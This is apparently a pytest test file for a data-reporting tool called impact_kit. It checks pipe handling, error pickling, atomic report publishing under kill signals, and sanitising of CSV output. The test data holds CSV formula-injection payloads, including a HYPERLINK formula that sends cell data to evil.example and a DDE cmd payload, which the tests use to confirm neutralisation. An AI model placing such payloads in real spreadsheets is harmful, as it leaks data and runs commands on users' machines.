"""Hostile and unlucky input, second round: what passes `validate` breaks no run, and a broken run leaves a whole set.

The cases of tests/data/bad are bad input refused with a message; these are the faults
and the odd input that must be survived: a closed pipe, a full disk, a file left unread,
errors crossing process boundaries, formula cells, long words and bidirectional names.
"""

from __future__ import annotations

import pickle
import shutil
import subprocess
import sys
import warnings
from pathlib import Path

import pytest
from conftest import ROOT, SAMPLE

from impact_kit.cli import main
from impact_kit.exceptions import (
    ExecutionTimeout,
    GridError,
    ImpactKitError,
    InputProblem,
    InvalidData,
    ReportFailed,
    WorkerCrashed,
)

SCRIPT = [sys.executable, "-m", "impact_kit.cli"]


def test_validate_into_a_closed_pipe_exits_quietly():
    """`impact-kit validate | head -0`: the reader is gone before the first line."""
    with subprocess.Popen(
        [*SCRIPT, "validate", "--data", str(SAMPLE)], cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE
    ) as process:
        process.stdout.close()  # type: ignore[union-attr]
        err = process.stderr.read().decode()  # type: ignore[union-attr]
    assert process.returncode == 0, err
    assert err == ""


@pytest.mark.parametrize(
    "error",
    [
        InvalidData([InputProblem("observations.csv", "the answer is empty.", 3, "value", "")] * 468),
        ReportFailed("the-good-start/2021: boom", notebook=Path("/tmp/x/report.failed.ipynb")),
        ExecutionTimeout("ran too long", seconds=20),
        WorkerCrashed("killed"),
        GridError("two criteria have the id `x`"),
    ],
    ids=lambda e: type(e).__name__,
)
def test_every_error_crosses_a_process_boundary_whole(error):
    error.add_note("in the child")
    again = pickle.loads(pickle.dumps(error))
    assert type(again) is type(error) and str(again) == str(error) and again.args == error.args
    assert vars(again) == vars(error) and again.__notes__ == ["in the child"]
    assert isinstance(again, ImpactKitError)


def test_invalid_data_raised_in_a_forked_child_keeps_its_problems():
    from impact_kit.data.observations import load_observations
    from impact_kit.engine import run_isolated

    with pytest.raises(InvalidData) as caught:
        run_isolated(load_observations, ROOT / "tests" / "data" / "bad" / "unknown-site" / "data")
    assert str(caught.value).startswith("1 problem found in the input data:\n")
    assert [Path(p.file).name for p in caught.value.problems] == ["observations.csv"]


def test_a_file_named_like_data_but_not_read_is_named(data_dir, capsys):
    shutil.copy(data_dir / "observations.csv", data_dir / "observations-2024.txt")
    with warnings.catch_warnings():
        warnings.simplefilter("always")
        assert main(["validate", "--data", str(data_dir)]) == 0
    err = capsys.readouterr().err
    assert err.startswith("warning: ") and "observations-2024.txt" in err and "not read" in err


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"clic")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


def test_indicators_csv_runs_no_formula(tmp_path):
    """OWASP's rule: a cell that starts with = + - @ tab or CR gets a leading apostrophe; numbers stay numbers."""
    import csv

    import pandas as pd

    from impact_kit.indicators.table import write_indicators_csv

    table = pd.DataFrame({"site": [f"s{i}" for i in range(len(FORMULAS))], "name": FORMULAS, "intensity": [-1.0] * 6})
    for excel in (False, True):
        path = write_indicators_csv(table, tmp_path / f"indicators-{excel}.csv", excel=excel)
        with path.open(encoding="utf-8-sig", newline="") as handle:
            rows = list(csv.DictReader(handle, delimiter=";" if excel else ","))
        assert [row["name"] for row in rows] == ["'" + f for f in FORMULAS]
        assert {row["intensity"] for row in rows} == {"-1"}


def test_a_charts_csv_download_runs_no_formula():
    import urllib.parse

    import pandas as pd

    from impact_kit.render.figures import csv_data_uri

    data = pd.DataFrame({"=cmd|' /C calc'!A0": [1, 2]}, index=pd.Index(["@SUM(1)", "-x"], name="site"))
    text = urllib.parse.unquote(csv_data_uri(data).split(",", 1)[1])
    assert "'=cmd" in text and "'@SUM(1)" in text and "'-x" in text
    assert not any(line.startswith(("=", "+", "-", "@")) for cell in text.splitlines() for line in cell.split(","))


PUBLISHER = """
import sys
from pathlib import Path
from impact_kit.reports.publish import staged
target, n = Path(sys.argv[1]), 0
while True:
    n += 1
    with staged(target) as stage:
        for name in ("report.html", "report.ipynb", "report.pdf"):
            (stage / name).write_text(str(n % 10) * 300_000)
"""


@pytest.mark.parametrize("how", ["SIGKILL", "SIGINT"])
def test_a_report_set_is_swapped_whole_whatever_the_moment_of_the_signal(tmp_path, how):
    """A process publishes sets in a loop; killed at 15 moments, it always leaves one whole set and no debris."""
    import os
    import random
    import signal
    import time

    from impact_kit.reports.publish import remove_stale_stages

    target = tmp_path / "site" / "2021"
    target.parent.mkdir()
    (target.parent / "2022").mkdir()  # a neighbour report, left alone
    moments = random.Random(18)
    for _ in range(15):
        process = subprocess.Popen([sys.executable, "-c", PUBLISHER, str(target)], cwd=ROOT)
        time.sleep(moments.uniform(0.3, 1.2))  # the interpreter starts in about 0.2 s
        os.kill(process.pid, getattr(signal, how))
        process.wait(timeout=30)
        remove_stale_stages(target.parent)  # what the next publication does first
        assert sorted(p.name for p in target.parent.iterdir()) in (["2021", "2022"], ["2022"])  # no staging left
        if not target.exists():  # killed before its first set
            continue
        contents = {p.name: p.read_text() for p in target.iterdir()}
        assert sorted(contents) == ["report.html", "report.ipynb", "report.pdf"]
        assert len(set(contents.values())) == 1, {k: v[:1] for k, v in contents.items()}


def test_a_name_with_a_right_to_left_override_is_isolated_and_the_title_is_plain(data_dir):
    import nbformat

    from impact_kit.data.sites import load_sites
    from impact_kit.render.export import export_html

    text = (data_dir / "sites.csv").read_text(encoding="utf-8")
    (data_dir / "sites.csv").write_text(text.replace(",The Good Start,", ",The \u202eGood Start,"), encoding="utf-8")
    sites = load_sites(data_dir)
    assert sites.loc["the-good-start", "name"] == "\u2068The \u202eGood Start\u2069"  # as <bdi> would
    assert "\u2068" not in "".join(sites["name"].drop("the-good-start"))  # the others as written
    page = export_html(nbformat.v4.new_notebook(), title="The \u202eGood\x1b[31m Start \u2068x\u2069 · 2021")
    assert "<title>The Good[31m Start x · 2021</title>" in page
